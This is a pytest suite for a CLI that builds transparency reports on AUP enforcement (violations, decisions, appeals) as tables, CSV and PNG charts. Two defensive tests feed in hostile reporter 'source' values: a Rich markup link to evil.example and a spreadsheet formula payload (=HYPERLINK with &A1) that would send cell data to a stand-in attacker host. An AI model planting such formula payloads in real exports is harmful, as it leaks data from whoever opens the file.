"""Transparency reports (``enforcement report``) on a known population, on SQLite and PostgreSQL.

The stories below are small enough to count by hand; the report must find exactly those counts,
only for the events recorded in its period, as a table, as CSV and as a PNG chart.
"""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from datetime import timedelta
from pathlib import Path

import matplotlib.pyplot as plt
import pytest
from aup_population import Population, system_fixture, template_fixture
from click.testing import Result
from matplotlib.axes import Axes
from matplotlib.figure import Figure
from test_service_support import OPERATOR, REPORTER, T0, FakeClock
from typer.testing import CliRunner

from enforcement import operator_decisions as ops
from enforcement import reports
from enforcement.bootstrap import Container
from enforcement.cli import app
from enforcement.policy import ViolationReport
from enforcement.reports import TransparencyReport, report_csv_rows, transparency_report
from enforcement.workers.sweep import sweep_once
from events.timefmt import format_time

MINUTE, HOUR, DAY = timedelta(minutes=1), timedelta(hours=1), timedelta(days=1)
START, END = T0 - DAY, T0 + 10 * DAY


def report(
    system: Container,
    account: str,
    category: str,
    occurred_ago: timedelta,
    severity: str | None = None,
    **fields: str,
) -> str:
    violation = ViolationReport(category, system.clock() - occurred_ago, severity, **fields)
    outcome = system.service.report_violation(account, violation, REPORTER)
    return str(outcome.events[0].data["violation_id"])


def stories(system: Container, clock: FakeClock) -> Population:
    """Day 0: acct_a spam (occurred 2 h before) → warning and remediation.
    Day 1: acct_a phishing high (30 min) → indefinite suspension; acct_b csam (1 h) →
    termination and referral. Day 2: acct_b spam → nothing (terminated); an operator suspends
    acct_c. Day 3: acct_c appeals, upheld; acct_a appeals the suspension, overturned →
    reinstatement and the phishing violation dismissed. Day 12 (outside the period): acct_c spam.
    """
    service = system.service
    report(system, "acct_a", "spam", 2 * HOUR, source="mail-classifier", detection="automated")
    clock.advance(DAY)
    report(system, "acct_a", "phishing", HOUR / 2, "high", source="abuse-desk",
           detection="human_review")  # fmt: skip
    report(system, "acct_b", "csam", HOUR)
    clock.advance(DAY)
    report(system, "acct_b", "spam", HOUR)
    suspended = service.operator("acct_c", ops.Suspend("review"), OPERATOR).events[0]
    clock.advance(DAY)
    appeal = service.file_appeal("acct_c", suspended.event_id, "wrong", OPERATOR)
    service.decide_appeal(
        "acct_c", appeal.events[0].data["appeal_id"], "upheld", "stands", OPERATOR
    )
    suspension = next(e for e in system.store.read_stream("acct_a") if e.type == "AccountSuspended")
    appeal = service.file_appeal("acct_a", suspension.event_id, "not us", OPERATOR)
    service.decide_appeal(
        "acct_a", appeal.events[0].data["appeal_id"], "overturned", "misread", OPERATOR
    )
    clock.advance(9 * DAY)
    report(system, "acct_c", "spam", HOUR)
    return Population(["acct_a", "acct_b", "acct_c"])


template = template_fixture("reports", stories)
system = system_fixture()


def test_the_report_counts_the_known_population(system: Container) -> None:
    result = transparency_report(system.store, START, END)

    assert result.violations_by_category == Counter(spam=2, phishing=1, csam=1)
    assert result.violations_by_source == Counter(
        {"mail-classifier": 1, "abuse-desk": 1, "unspecified": 2}
    )
    assert result.violations_by_detection == Counter(automated=3, human_review=1)
    assert result.decisions_automated == Counter(
        {
            "warning / remediation": 1,
            "suspension": 1,
            "termination": 1,
            "referral to authorities": 1,
        }
    )
    assert result.decisions_by_operator == Counter(
        {"suspension": 1, "reinstatement": 1, "violation dismissed": 1}
    )
    assert (result.appeals_filed, result.appeals_pending) == (2, 0)
    assert result.appeal_outcomes == Counter(upheld=1, overturned=1)
    assert sorted(result.times_to_decision) == [1800.0, 3600.0, 7200.0]
    assert result.median_time_to_decision == HOUR
    assert result.undecided == 1  # the spam on the terminated account
    assert result.accounts == 2


def test_only_events_recorded_in_the_period_count(system: Container) -> None:
    day_one = transparency_report(system.store, T0 + DAY, T0 + DAY)
    later = transparency_report(system.store, T0 + 11 * DAY, T0 + 13 * DAY)

    assert day_one.violations_by_category == Counter(phishing=1, csam=1)
    assert day_one.appeals_filed == 0
    assert later.violations_by_category == Counter(spam=1)
    assert later.accounts == 1 and later.undecided == 0
    instant = format_time(T0 + DAY)  # --since may equal --until
    code, text = invoke(system, "--since", instant, "--until", instant, "--format", "csv")
    assert code == 0, text
    assert ["violations_by_category", "csam", "1"] in list(csv.reader(io.StringIO(text)))

    before = transparency_report(system.store, T0 - 3 * DAY, T0 - 2 * DAY)
    assert before.median_time_to_decision is None
    assert ["time_to_decision", "median_seconds", ""] in report_csv_rows(before)


def invoke_result(system: Container, *args: str) -> Result:
    env = {"ENFORCEMENT_DATABASE_URL": system.settings.database_url, "COLUMNS": "160"}
    return CliRunner().invoke(app, ["report", *args], env=env)


def invoke(system: Container, *args: str) -> tuple[int, str]:
    result = invoke_result(system, *args)
    return result.exit_code, result.stdout


def period() -> list[str]:
    return ["--since", format_time(START), "--until", format_time(END)]


def test_an_overturn_that_gives_back_a_replaced_suspension_counts(system: Container) -> None:
    """Reversed by ``SuspensionEnded`` "overturned" (the 7-day suspension it had replaced still
    runs), not by a reinstatement: still a decision of the operator's in the report."""
    clock = system.clock
    assert isinstance(clock, FakeClock)
    clock.advance(HOUR)  # after the stories' last event
    since = clock()
    report(system, "acct_d", "phishing", HOUR, "high")  # 7 days
    clock.advance(HOUR)
    report(system, "acct_d", "phishing", HOUR, "high")  # indefinitely, replacing it
    longer = system.store.read_stream("acct_d")[-2]
    assert longer.type == "AccountSuspended" and longer.data["until"] is None
    appeal = system.service.file_appeal("acct_d", longer.event_id, "not us", OPERATOR)
    system.service.decide_appeal(
        "acct_d", appeal.events[0].data["appeal_id"], "overturned", "misread", OPERATOR
    )
    result = transparency_report(system.store, since, clock())
    assert result.decisions_by_operator == Counter(
        {"suspension overturned": 1, "violation dismissed": 1}
    )
    assert result.decisions_automated == Counter({"suspension": 2})


def test_throttles_dismissals_and_expiries_count_as_the_log_says(system: Container) -> None:
    """A throttle and its lifting are decisions; a suspension's end when its ``until`` passes
    is none; a dismissal can be the first answer to a violation; a violation that "occurred"
    just ahead of the clock was decided in no time, not in negative time; an appeal not decided
    by the period's end is pending."""
    clock = system.clock
    assert isinstance(clock, FakeClock)
    service = system.service
    clock.advance(HOUR)
    sweep_once(service)  # the stories' own overdue deadlines, before the period
    clock.advance(HOUR)
    since = clock()
    applied = service.operator("acct_t", ops.ApplyThrottle(0.5, "bursts"), OPERATOR)
    service.operator("acct_t", ops.LiftThrottle(applied.events[0].data["throttle_id"]), OPERATOR)
    suspension = service.operator("acct_t", ops.Suspend("review", clock() + HOUR), OPERATOR)
    service.file_appeal("acct_t", suspension.events[0].event_id, "not us", OPERATOR)
    clock.advance(2 * HOUR)
    assert sweep_once(service) == 1
    ended = [e for e in system.store.read_stream("acct_t") if e.type == "SuspensionEnded"]
    assert [e.data["reason"] for e in ended] == ["expired"]
    service.operator("acct_u", ops.Terminate("fraud"), OPERATOR)
    violation_id = report(system, "acct_u", "spam", HOUR)  # nothing left to decide
    clock.advance(HOUR)
    service.operator("acct_u", ops.DismissViolation(violation_id, "mistaken"), OPERATOR)
    report(system, "acct_v", "spam", -2 * MINUTE)

    result = transparency_report(system.store, since, clock())

    assert result.decisions_by_operator == Counter(
        {
            "throttle": 1,
            "throttle lifted": 1,
            "suspension": 1,
            "termination": 1,
            "violation dismissed": 1,
        }
    )
    assert result.decisions_automated == Counter({"warning / remediation": 1})
    assert sorted(result.times_to_decision) == [0.0, 2 * 3600.0]
    assert result.undecided == 0
    assert (result.appeals_filed, result.appeals_pending) == (1, 1)


def test_the_report_reads_the_log_a_page_at_a_time(
    system: Container, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = transparency_report(system.store, START, END)
    for page in (2, 1):  # 2 first: a page that overlaps the last fails rather than loops
        monkeypatch.setattr(reports, "_PAGE", page)
        assert transparency_report(system.store, START, END) == whole


def table_rows(table: str) -> list[list[str]]:
    """The cells of each row (and header) of the Rich tables printed, titles left out."""
    return [
        [cell.strip() for cell in re.split("[│┃]", line.strip().strip("│┃"))]
        for line in table.splitlines()
        if line.lstrip().startswith(("│", "┃"))
    ]


def test_the_cli_prints_a_table_csv_and_draws_a_chart(system: Container, tmp_path: Path) -> None:
    chart = tmp_path / "report.png"

    table_code, table = invoke(system, *period())
    drawn = invoke_result(system, *period(), "--format", "csv", "--chart", str(chart))
    csv_code, text = drawn.exit_code, drawn.stdout

    assert table_code == 0
    for title in ("category", "source", "detection"):
        assert f"Violations by {title}" in table
    assert "Decisions by kind" in table and "Appeals" in table
    assert "Transparency report," in table
    assert format_time(START) in table and format_time(END) in table
    assert table_rows(table) == [
        ["violations reported", "4"],
        ["accounts with violations", "2"],
        ["decisions", "7"],
        ["appeals filed", "2"],
        ["median time to decision", "1.0 h"],
        ["violations decided / undecided", "3 / 1"],
        ["name", "count", "share"],
        ["spam", "2", "50%"],
        ["phishing", "1", "25%"],
        ["csam", "1", "25%"],
        ["name", "count", "share"],
        ["unspecified", "2", "50%"],
        ["mail-classifier", "1", "25%"],
        ["abuse-desk", "1", "25%"],
        ["name", "count", "share"],
        ["automated", "3", "75%"],
        ["human_review", "1", "25%"],
        ["kind", "policy engine", "operator", "total"],
        ["warning / remediation", "1", "0", "1"],
        ["suspension", "1", "1", "2"],
        ["termination", "1", "0", "1"],
        ["referral to authorities", "1", "0", "1"],
        ["violation dismissed", "0", "1", "1"],
        ["reinstatement", "0", "1", "1"],
        ["filed", "upheld", "overturned", "filed, not decided yet"],
        ["2", "1", "1", "0"],
    ]
    assert csv_code == 0
    assert drawn.stderr == f"Chart written to {chart}.\n"  # on stderr: stdout is the CSV
    assert list(csv.reader(io.StringIO(text))) == [
        ["section", "name", "value"],
        ["period", "since", format_time(START)],
        ["period", "until", format_time(END)],
        ["violations_by_category", "csam", "1"],
        ["violations_by_category", "phishing", "1"],
        ["violations_by_category", "spam", "2"],
        ["violations_by_source", "abuse-desk", "1"],
        ["violations_by_source", "mail-classifier", "1"],
        ["violations_by_source", "unspecified", "2"],
        ["violations_by_detection", "automated", "3"],
        ["violations_by_detection", "human_review", "1"],
        *(
            row
            for kind, (automated, by_operator) in {
                "warning / remediation": (1, 0),
                "suspension": (1, 1),
                "termination": (1, 0),
                "referral to authorities": (1, 0),
                "violation dismissed": (0, 1),
                "reinstatement": (0, 1),
            }.items()
            for row in (
                ["decisions_by_kind", kind, str(automated + by_operator)],
                ["decisions_by_policy_engine", kind, str(automated)],
                ["decisions_by_operator", kind, str(by_operator)],
            )
        ),
        ["appeals", "filed", "2"],
        ["appeals", "upheld", "1"],
        ["appeals", "overturned", "1"],
        ["appeals", "not_decided", "0"],
        ["time_to_decision", "median_seconds", "3600"],
        ["time_to_decision", "decided_violations", "3"],
        ["time_to_decision", "undecided_violations", "1"],
    ]
    image = chart.read_bytes()
    assert image.startswith(b"\x89PNG\r\n\x1a\n") and len(image) > 20_000


def test_a_source_is_shown_as_written_not_read_as_markup(system: Container) -> None:
    """A violation's ``source`` is the reporter's free text, and the log keeps it for good:
    read as Rich markup, ``[/bold]`` made every report of its period fail."""
    report(system, "acct_m", "spam", HOUR, source="[/bold] [link=http://evil.example]x[/link]")
    now = system.clock()

    code, table = invoke(
        system, "--since", format_time(now - HOUR), "--until", format_time(now + HOUR)
    )

    assert code == 0, table
    assert "[/bold] [link=http://evil.example]x[/link]" in table


def test_a_source_in_csv_is_never_a_spreadsheet_formula(system: Container) -> None:
    """A reporter's ``source`` opens a cell of the CSV: one starting as a formula would run in
    the spreadsheet an operator opens the transparency report in."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    for source in (formula, "@SUM(1+1)", "+1", "-1", "\t=1", "\r=1", "mail-classifier"):
        report(system, "acct_m", "spam", HOUR, source=source)
    now = system.clock()

    code, text = invoke(
        system, "--since", format_time(now - HOUR), "--until", format_time(now + HOUR),
        "--format", "csv",
    )  # fmt: skip

    assert code == 0, text
    sources = {r[1] for r in csv.reader(io.StringIO(text)) if r[0] == "violations_by_source"}
    quoted = {"'" + formula, "'@SUM(1+1)", "'+1", "'-1", "'\t=1", "'\r=1"}
    assert quoted | {"mail-classifier"} <= sources
    assert not any(s.startswith(("=", "+", "-", "@", "\t", "\r")) for s in sources)


def test_a_chart_that_cannot_be_written_is_a_usage_error(system: Container, tmp_path: Path) -> None:
    """Exit 2, as ``export -o`` to such a path (exit 1 says a check failed)."""
    nowhere = tmp_path / "no" / "such" / "dir" / "report.png"
    result = invoke_result(system, *period(), "--chart", str(nowhere))
    assert result.exit_code == 2
    assert result.stderr == f"Could not write {nowhere}: No such file or directory.\n"


def test_a_chart_without_matplotlib_says_how_to_install_it(
    system: Container, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_matplotlib(*_: object) -> None:
        raise ImportError("No module named 'matplotlib'")

    monkeypatch.setattr(reports, "write_chart", no_matplotlib)
    result = invoke_result(system, *period(), "--chart", str(tmp_path / "report.png"))
    assert result.exit_code == 2
    assert result.stderr == (
        "--chart needs matplotlib: install it with `pip install matplotlib`.\n"
    )


@pytest.mark.parametrize(
    ("seconds", "shown"),
    [
        (None, "-"),
        (59, "59 s"),
        (60, "1 min"),
        (3599, "60 min"),
        (3600, "1.0 h"),
        (48 * 3600 - 360, "47.9 h"),
        (48 * 3600, "2.0 days"),
        (3 * 86400, "3.0 days"),
    ],
)
def test_a_duration_is_shown_in_its_unit(seconds: int | None, shown: str) -> None:
    span = None if seconds is None else timedelta(seconds=seconds)
    assert reports._duration(span) == shown


def drawn(result: TransparencyReport, path: Path, monkeypatch: pytest.MonkeyPatch) -> Figure:
    """The figure ``write_chart`` drew and saved to ``path`` (kept open to be read)."""
    figures: list[Figure] = []
    monkeypatch.setattr(plt, "close", figures.append)
    reports.write_chart(result, path)
    monkeypatch.undo()
    (figure,) = figures
    return figure


def bars(axis: Axes) -> list[tuple[str | None, list[float], list[float]]]:
    """Each series of bars: its legend label, where its bars start and how long they are."""
    series = []
    for container in axis.containers:
        label = str(container.get_label())
        shown = None if label.startswith("_") else label  # "_container0": not in the legend
        series.append((shown, [b.get_x() for b in container], [b.get_width() for b in container]))
    return series


def inside(box: tuple[float, ...]) -> bool:
    return all(0 <= v <= 1 for v in box)


def test_the_chart_draws_the_reports_figures(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the chart shows, read from the figure's objects rather than its pixels; colours,
    sizes in inches and fonts are left free."""
    result = TransparencyReport(
        START,
        END,
        violations_by_category=Counter({"spam": 1234, "adult_content": 2}),
        decisions_automated=Counter({"suspension": 3, "warning / remediation": 1}),
        decisions_by_operator=Counter({"suspension": 1, "reinstatement": 2}),
        appeals_filed=4,
        appeals_pending=1,
        appeal_outcomes=Counter(upheld=1, overturned=2),
        times_to_decision=[60.0, 7200.0, 86400.0],
        accounts=5,
    )
    chart = tmp_path / "report.png"

    figure = drawn(result, chart, monkeypatch)

    try:
        assert chart.read_bytes().startswith(b"\x89PNG\r\n\x1a\n")
        day = "%Y-%m-%d %H:%M UTC"
        assert [t.get_text() for t in figure.texts] == [
            "AUP enforcement transparency report",
            f"Events recorded from {START:{day}} to {END:{day}}",
            *("1,236", "violations reported", "5", "accounts with violations", "7", "decisions"),
            *("2.0 h", "median time to decision", "4", "appeals filed"),
        ]
        assert all(inside(t.get_position() * 2) for t in figure.texts)
        violations, decisions, appeals = figure.axes
        assert [a.get_title(loc="left") for a in figure.axes] == [
            "Violations reported, by category",
            "Decisions, by kind",
            "Appeals filed in the period (4)",
        ]
        assert all(inside(tuple(a.get_position().extents)) for a in figure.axes)
        assert appeals.get_position().y1 < decisions.get_position().y0  # one under the other
        assert violations.get_position().x1 < decisions.get_position().x0

        assert [t.get_text() for t in violations.get_yticklabels()] == ["spam", "adult content"]
        assert bars(violations) == [(None, [0, 0], [1234, 2])]
        assert [t.get_text() for t in violations.texts] == ["1,234", "2"]

        kinds = ["warning / remediation", "suspension", "reinstatement"]
        assert [t.get_text() for t in decisions.get_yticklabels()] == kinds
        assert bars(decisions) == [
            ("by the policy engine", [0, 0, 0], [1, 3, 0]),
            ("by an operator", [1, 3, 0], [0, 1, 2]),
        ]
        assert [t.get_text() for t in decisions.texts] == ["1", "4", "2"]
        legend = decisions.get_legend()
        assert legend is not None
        assert [t.get_text() for t in legend.get_texts()] == [
            "by the policy engine",
            "by an operator",
        ]

        labels = ["upheld", "overturned", "not decided yet"]
        assert [t.get_text() for t in appeals.get_yticklabels()] == labels
        assert bars(appeals) == [(None, [0, 0, 0], [1, 2, 1])]
        assert [t.get_text() for t in appeals.texts] == ["1", "2", "1"]
        for axis, rows, peak in ((violations, 2, 1234), (decisions, 3, 4), (appeals, 3, 2)):
            assert axis.get_ylim() == (rows - 0.5, -0.5)  # every row, the first on top
            low, high = axis.get_xlim()
            assert low == 0 and high > peak  # every bar whole
    finally:
        plt.close(figure)


def test_a_chart_of_an_empty_period_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    empty = TransparencyReport(START, END)  # what a report starts from: every count 0
    assert ["time_to_decision", "undecided_violations", "0"] in report_csv_rows(empty)

    figure = drawn(empty, tmp_path / "report.png", monkeypatch)

    try:
        assert [t.get_text() for t in figure.texts][2:] == [
            *("0", "violations reported", "0", "accounts with violations", "0", "decisions"),
            *("-", "median time to decision", "0", "appeals filed"),
        ]
        violations, decisions, appeals = figure.axes
        for axis in (violations, decisions):
            assert [t.get_text() for t in axis.texts] == ["none in this period"]
            assert axis.get_yticks().tolist() == []
            assert all(lengths == [] for _, _, lengths in bars(axis))
            assert axis.get_ylim() == (0.5, -0.5)
        assert decisions.get_legend() is None
        assert bars(appeals) == [(None, [0, 0, 0], [0, 0, 0])]
        assert [t.get_text() for t in appeals.texts] == ["0", "0", "0"]
        assert appeals.get_xlim()[1] > 0
    finally:
        plt.close(figure)


A_DAY = ["--since", "2026-11-24T10:00:00Z", "--until", "2026-11-25T10:00:00Z"]
RFC3339 = "must be an RFC 3339 time with a UTC offset, such as 2026-11-24T10:00:00Z."


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--since", "2026-11-24T10:00:00Z"], "Missing option '--until'"),
        (["--since", "yesterday", "--until", "2026-11-24T10:00:00Z"], f"--since {RFC3339}"),
        (["--since", "2026-11-24T10:00:00Z", "--until", "tomorrow"], f"--until {RFC3339}"),
        (
            ["--since", "2026-11-25T10:00:00Z", "--until", "2026-11-24T10:00:00Z"],
            "--since must not be later than --until.",
        ),
        (
            [*A_DAY, "--format", "xml"],
            "Unknown format 'xml'; choose table or csv.",
        ),
        (
            [*A_DAY, "--chart", "a.svg"],
            "--chart must name a .png file, not a.svg.",
        ),
    ],
)
def test_usage_errors_exit_2(sqlite_url: str, args: list[str], says: str) -> None:
    """Refused before the database is opened (``sqlite_url`` names no file)."""
    result = CliRunner().invoke(
        app, ["report", *args], env={"ENFORCEMENT_DATABASE_URL": sqlite_url}
    )

    assert result.exit_code == 2
    assert says in result.stderr
    assert "database" not in result.stderr
